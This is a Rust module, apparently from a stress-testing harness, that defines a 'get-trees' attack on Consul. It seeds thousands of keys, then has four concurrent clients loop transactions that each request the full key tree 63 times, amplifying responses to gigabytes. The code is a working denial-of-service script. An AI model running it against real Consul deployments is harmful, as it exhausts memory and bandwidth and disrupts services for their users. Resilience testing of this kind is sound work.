//! Transactions whose small body asks for a large tree 63 times.

use std::io;
use std::sync::Arc;

use super::{Attack, AttackedFace};
use crate::client::crowd;
use crate::client::request::put;
use crate::fill;
use crate::stage::Stage;

/// The attack.
pub(super) const ATTACK: Attack = Attack {
    name: "get-trees",
    face: AttackedFace::Consul,
    row: "4 transactions of 63 get-tree, 3.2 GiB",
    ahead_ms: 1000,
    max_connections: 0,
    prepare: |stage| Box::pin(prepare(stage)),
    strike: |stage| Box::pin(strike(stage)),
};

async fn prepare(stage: Arc<Stage>) -> io::Result<()> {
    let key = |number| format!("hostile/tree/{number:05}");
    fill::consul(&stage, stage.pick(9_000, 200), key, 1_000).await
}

async fn strike(stage: Arc<Stage>) {
    crowd(&stage, 4, |mut attacker| async move {
        let operation = r#"{"KV":{"Verb":"get-tree","Key":"hostile/tree/"}}"#;
        let body = format!("[{}]", vec![operation; 63].join(","));
        let request = put("/v1/txn", body.as_bytes());
        while attacker.goes_on() {
            attacker.ask(&request).await;
        }
    })
    .await;
}
